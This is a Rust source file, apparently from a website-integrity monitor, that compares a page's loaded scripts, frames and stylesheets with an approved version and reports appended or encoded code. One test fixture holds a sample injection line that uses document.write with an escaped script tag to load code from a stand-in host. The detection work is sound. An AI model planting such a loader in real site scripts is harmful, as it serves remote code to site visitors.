//! What is found in what a page loads: every content that no approved state has is examined by itself.

use super::examine::{About, Form, Read, Source, Terms, examine as compare, listed, read, scan};
use crate::detect;
use crate::diff::readable;
use crate::judge::weigh;
use crate::model::{
    ChangeKind, Difference, Digest, Excerpt, Finding, Location, MAX_EVIDENCE, Page, Plane, Resource, ResourceKind,
    Verdict,
};
use jiff::Timestamp;
use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::Arc;
use url::Url;

/// Bytes by their digest.
pub type Bodies = HashMap<Digest, Arc<Vec<u8>>>;

/// Changes of one resource that are shown.
const SHOWN: usize = 3;

/// What contents are compared with.
#[derive(Debug, Clone, Copy)]
pub(super) struct Against<'a> {
    /// What the approved version loads.
    pub(super) resources: &'a [Resource],
    /// What differs from it.
    pub(super) difference: &'a Difference,
    /// When it was approved, where that is known.
    pub(super) approved_at: Option<Timestamp>,
}

/// What came of it.
#[derive(Debug, Clone, PartialEq, Default)]
pub(super) struct Linked {
    /// What was found.
    pub(super) findings: Vec<Finding>,
    /// What changed, in readable form.
    pub(super) excerpts: Vec<Excerpt>,
}

/// Examines the contents that differ from those of an approved version; every one, when there is none. A script is
/// compared with the script before it, the document of a frame with that document, a stylesheet as the only one of a page.
/// What changes by nature is heard only when it alarms. Contents whose bytes are not at hand are told as not
/// examined.
pub(super) fn examine(now: &[Resource], approved: Option<Against<'_>>, bodies: &Bodies, about: About<'_>) -> Linked {
    let mut linked = Linked::default();
    for (resource, before) in changed(now, approved) {
        let Some(body) = body(resource, bodies) else {
            linked.findings.extend(not_examined(resource).map(|finding| at(resource, finding)));
            continue;
        };
        let before = before.and_then(|before| self::body(before, bodies));
        let approved_at = approved.and_then(|approved| approved.approved_at);
        let mut one = examine_one(resource, body, before.map(|before| (before, approved_at)), about.of_anybody());
        if resource.volatile {
            one.findings.retain(|finding| weigh(finding) == Verdict::Alarm);
            one.excerpts.truncate(if one.findings.is_empty() { 0 } else { SHOWN });
        }
        linked.findings.extend(one.findings);
        linked.excerpts.extend(one.excerpts);
    }
    linked.findings.extend(known_since(now, approved, bodies, about));
    linked
}

/// What indicators and signatures say of the contents that are approved as they stand: they may be younger than the approval.
/// Of the bytes themselves nothing else is asked.
fn known_since(now: &[Resource], approved: Option<Against<'_>>, bodies: &Bodies, about: About<'_>) -> Vec<Finding> {
    let Some(Against { approved_at, .. }) = approved.filter(|_| about.knows_attacks()) else {
        return Vec::new();
    };
    let differ: HashSet<&Url> = changed(now, approved).into_iter().map(|(resource, _)| &resource.url).collect();
    let same = now.iter().filter(|resource| !resource.volatile && !differ.contains(&resource.url));
    let told = same.filter_map(|resource| Some((resource, body(resource, bodies)?))).flat_map(|(resource, body)| {
        let parsed = if about.indicators.is_empty() { b"" } else { body };
        let read = read_as(resource, parsed).signed(body, about.signatures);
        let findings = listed(&read, approved_at, about.of_anybody());
        findings.into_iter().map(|finding| at(resource, finding))
    });
    told.collect()
}

/// What differs, with what it takes the place of.
pub(super) fn changed<'a>(
    now: &'a [Resource],
    approved: Option<Against<'a>>,
) -> Vec<(&'a Resource, Option<&'a Resource>)> {
    let Some(Against { resources: old, difference, .. }) = approved else {
        return now.iter().map(|resource| (resource, None)).collect();
    };
    let listed = difference
        .resources
        .iter()
        .filter_map(|change| Some((now.get(change.new)?, change.old.and_then(|index| old.get(index)))));
    let by_nature = now.iter().filter(|resource| resource.volatile).filter_map(|resource| {
        let before = old.iter().find(|known| known.is_at_place_of(resource));
        (before.is_none_or(|known| known.bytes() != resource.bytes())).then_some((resource, before))
    });
    listed.chain(by_nature).collect()
}

/// A content whose bytes are not at hand, because they are too many or because the host shows others by now.
fn not_examined(resource: &Resource) -> Option<Finding> {
    (resource.is_kept() && resource.bytes().is_some()).then(|| detect::not_examined(resource))
}

fn body<'a>(resource: &Resource, bodies: &'a Bodies) -> Option<&'a [u8]> {
    Some(bodies.get(&resource.bytes()?)?.as_slice())
}

/// Examines one content, beside what it takes the place of and the time at which that was approved.
fn examine_one(
    resource: &Resource,
    body: &[u8],
    before: Option<(&[u8], Option<Timestamp>)>,
    about: About<'_>,
) -> Linked {
    let now = read_as(resource, body).signed(body, about.signatures);
    let old = before.map(|(before, at)| {
        let old = Read { approved_at: at, ..read_as(resource, before) };
        if now.signed.is_empty() { old } else { old.signed(before, about.signatures) }
    });
    let before = before.map(|(before, _)| before);
    let (mut findings, difference) = match &old {
        Some(old) => against(&now, old, about),
        None => (scan(&now, about).0, None),
    };
    let is_script = resource.kind == ResourceKind::Script;
    let added = before.filter(|_| is_script).and_then(|before| added_part(before, body));
    if let Some((added, old)) = added.zip(old.as_ref()) {
        // Alone it hides behind nothing that the old part holds already.
        let mut more = against(&read_as(resource, added), old, about).0;
        more.retain(|finding| finding.rule != "script-appended");
        // What the added part shows by itself is not told a second time of the whole.
        findings.retain(|whole| !more.iter().any(|part| says_the_same(part, whole)));
        let before = lines_before(body, added);
        findings.extend(more.into_iter().map(|finding| moved_down(finding, before)));
    }
    let mut told = HashSet::new();
    // That a script changed is told by the page that loads it.
    findings.retain(|one| !(is_script && one.rule == "unapproved-active-change"));
    findings.retain(|one| told.insert((one.rule.clone(), one.evidence.clone())));
    Linked {
        excerpts: excerpts(resource, added, difference.as_ref()),
        findings: findings.into_iter().map(|finding| at(resource, finding)).collect(),
    }
}

/// A stylesheet is read as the only one of a page.
fn within_page<'a>(resource: &Resource, body: &'a [u8]) -> Cow<'a, [u8]> {
    match resource.kind {
        ResourceKind::Style => Cow::Owned([b"<style>", body, b"</style>"].concat()),
        ResourceKind::Script | ResourceKind::Frame | ResourceKind::Picture => Cow::Borrowed(body),
    }
}

fn read_as<'a>(resource: &'a Resource, body: &[u8]) -> Read<'a> {
    let form = if resource.kind == ResourceKind::Script { Form::Script } else { Form::Page };
    // The addresses in a document are relative to where it came from; a script acts on the page that asked for it.
    let from = resource.way.last().filter(|_| resource.kind != ResourceKind::Script);
    let url = Some(from.unwrap_or(&resource.url));
    let content_type = resource.content_type.as_deref();
    let body = &within_page(resource, body);
    read(Source { body, head: None, content_type, url, form, believed: false, resources: &[] }, &[])
}

fn against(now: &Read, old: &Read, about: About<'_>) -> (Vec<Finding>, Option<Difference>) {
    let bodies = &Bodies::new();
    let terms = Terms::new(about, bodies);
    let examination = compare(now, std::slice::from_ref(old), &terms);
    (examination.findings, examination.difference)
}

/// What stands before or behind the whole old script in the new one.
fn added_part<'a>(old: &[u8], new: &'a [u8]) -> Option<&'a [u8]> {
    let old = old.trim_ascii();
    let whole = new.trim_ascii();
    if old.is_empty() || old.len() == whole.len() {
        return None;
    }
    whole.strip_prefix(old).or_else(|| whole.strip_suffix(old))
}

/// Whether a finding on a part says everything that one on the whole says.
fn says_the_same(part: &Finding, whole: &Finding) -> bool {
    let shown = part.evidence.trim();
    let as_bad = (part.severity, part.confidence) >= (whole.severity, whole.confidence);
    let about = part.decoded == whole.decoded && !shown.is_empty() && whole.evidence.contains(shown);
    part.rule == whole.rule && part.summary == whole.summary && as_bad && about
}

/// Line ends of a content before a part of it.
fn lines_before(whole: &[u8], part: &[u8]) -> u32 {
    let is_first = whole.trim_ascii_start().starts_with(part);
    let start = if is_first { 0 } else { memchr::memmem::rfind(whole, part).unwrap_or_default() };
    u32::try_from(memchr::memchr_iter(b'\n', &whole[..start]).count()).unwrap_or(u32::MAX)
}

/// A finding with its line counted from the beginning of the whole content.
fn moved_down(mut finding: Finding, lines: u32) -> Finding {
    if let Some(line) = finding.location.as_mut().and_then(|place| place.line.as_mut()) {
        *line = line.saturating_add(lines);
    }
    finding
}

/// A finding with the resource as its place.
fn at(resource: &Resource, finding: Finding) -> Finding {
    let (line, column) = finding.location.as_ref().map_or((None, None), |place| (place.line, place.column));
    let location = Some(Location { path: resource.url.to_string(), line, column });
    Finding { location, ..finding }
}

fn excerpts(resource: &Resource, added: Option<&[u8]>, difference: Option<&Difference>) -> Vec<Excerpt> {
    let path = resource.url.to_string();
    let plane = if resource.acts() { Plane::Active } else { Plane::Content };
    if let Some(added) = added {
        let text = String::from_utf8_lossy(added.get(..MAX_EVIDENCE).unwrap_or(added)).into_owned();
        return vec![Excerpt { kind: ChangeKind::Insert, plane, path, old: None, new: Some(text), parts: Vec::new() }];
    }
    let changes = difference.map(|difference| difference.changes.as_slice()).unwrap_or_default();
    changes.iter().take(SHOWN).map(|change| Excerpt { path: path.clone(), ..readable(change) }).collect()
}

/// The resources with the state of the documents among them: that of known bytes is known, the others are parsed.
pub(super) fn with_states(mut resources: Vec<Resource>, known: &[&Resource], bodies: &Bodies) -> Vec<Resource> {
    let frames = resources.iter_mut().filter(|resource| resource.kind == ResourceKind::Frame);
    for frame in frames {
        let Some(bytes) = frame.bytes() else { continue };
        let same = known.iter().find(|known| known.kind == ResourceKind::Frame && known.bytes() == Some(bytes));
        match same {
            Some(same) => frame.content = same.content,
            None => {
                let page = bodies.get(&bytes).map(|body| read_as(frame, body).page);
                frame.settle(page.as_ref().map(Page::digest));
            }
        }
    }
    resources
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Content, Wanted};

    #[test]
    fn what_was_added_is_found_at_both_ends() {
        assert_eq!(added_part(b"var a;\n", b"var a;\nevil();"), Some(&b"\nevil();"[..]));
        assert_eq!(added_part(b"var a;\n", b"evil();var a;"), Some(&b"evil();"[..]));
        assert_eq!(added_part(b"var a;", b"var b; var c;"), None);
        assert_eq!(added_part(b"var a;\n", b"\nvar a;\n\n"), None);
        assert_eq!(added_part(b"", b"var a;"), None);
    }

    #[test]
    fn an_added_part_is_told_once_by_its_line_in_the_file() {
        let url: Url = "https://www.city.example/menu.js".parse().expect("a URL");
        let wanted = Wanted { kind: ResourceKind::Script, url, own: true };
        let old = "function menu() {\n  document.body.classList.toggle('open');\n}\n";
        let evil = "document.write(unescape('%3Cscript src=//bad.example/a.js%3E%3C/script%3E'));";
        let content = Content::Absent { status: 404 };
        let resource = Resource::new(wanted, true, content);
        let body = format!("{old}{evil}\n");
        let found = examine_one(&resource, body.as_bytes(), Some((old.as_bytes(), None)), About::nothing()).findings;
        let of = |rule: &str| found.iter().filter(|one| one.rule == rule).collect::<Vec<_>>();
        let encoded = of("encoded-script");
        assert_eq!(encoded.len(), 1, "{found:#?}");
        assert_eq!(encoded[0].location.as_ref().and_then(|place| place.line), Some(4), "{found:#?}");
        assert_eq!(of("script-appended").len(), 1);
    }
}
